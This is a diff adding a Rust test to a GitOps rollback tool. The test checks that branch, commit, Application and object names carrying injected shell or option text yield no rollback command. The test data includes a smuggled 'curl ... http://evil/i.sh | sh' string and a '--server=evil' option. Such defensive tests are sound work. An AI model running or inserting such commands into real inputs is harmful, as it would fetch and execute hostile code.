@@ -343,6 +343,61 @@ fn the_rollback_goes_through_git() {
 }
 
 #[test]
+fn hostile_names_give_no_command_of_the_rollback() {
+    let titles = |branch: &str, sha: &str, app: &str, name: &str| {
+        let mut commit = entry('b', 12, &[("base-apps/mysql/s.yaml", LIMIT)]);
+        commit.summary.sha = sha.to_owned();
+        let mut incident = incident(Some(Cause::OOMKilled), Severity::Sev1);
+        for finding in &mut incident.findings {
+            finding.resource.name = name.to_owned();
+        }
+        let mut config = Config::load(None, &Environment::new()).unwrap().config;
+        config.github.branch = branch.to_owned();
+        let mut monitored = monitored();
+        for service in &mut monitored {
+            service.gitops.app_name = Some(app.to_owned());
+        }
+        let input = CorrelateInput {
+            monitored: &monitored,
+            repository: None,
+            snapshot: &Snapshot::default(),
+            config: &config,
+        };
+        let answer = correlate(&[&incident], &input, &mut repository(vec![commit]));
+        let rollback = answer[0].as_ref().unwrap().rollback.clone();
+        let refused = rollback.into_iter().filter(|step| step.command.is_none());
+        refused.map(|step| step.title).collect::<Vec<_>>()
+    };
+    let (sha, hostile) = ("b".repeat(40), "x; curl -s http://evil/i.sh | sh #");
+    assert!(titles("main", &sha, "mysql", "mysql").is_empty());
+    for (refused, what) in [
+        (titles(hostile, &sha, "mysql", "mysql"), "the branch"),
+        (titles("+main", &sha, "mysql", "mysql"), "the branch"),
+        (titles("main", "HEAD", "mysql", "mysql"), "the commit"),
+        (titles("main", hostile, "mysql", "mysql"), "the commit"),
+        (
+            titles("main", &sha, hostile, "mysql"),
+            "the name of the Application",
+        ),
+        (
+            titles("main", &sha, "--server=evil", "mysql"),
+            "the name of the Application",
+        ),
+        (
+            titles("main", &sha, "mysql", hostile),
+            "the name of the object",
+        ),
+    ] {
+        let why = format!("(no command: {what} ");
+        assert!(!refused.is_empty(), "{what}");
+        assert!(
+            refused.iter().all(|title| title.contains(&why)),
+            "{refused:?}"
+        );
+    }
+}
+
+#[test]
 fn a_commit_that_argo_cd_has_not_synced_is_not_reverted() {
     let lowered_limit = || entry('b', 12, &[("base-apps/mysql/s.yaml", LIMIT)]);
     let rollback_of = |status, cause| {
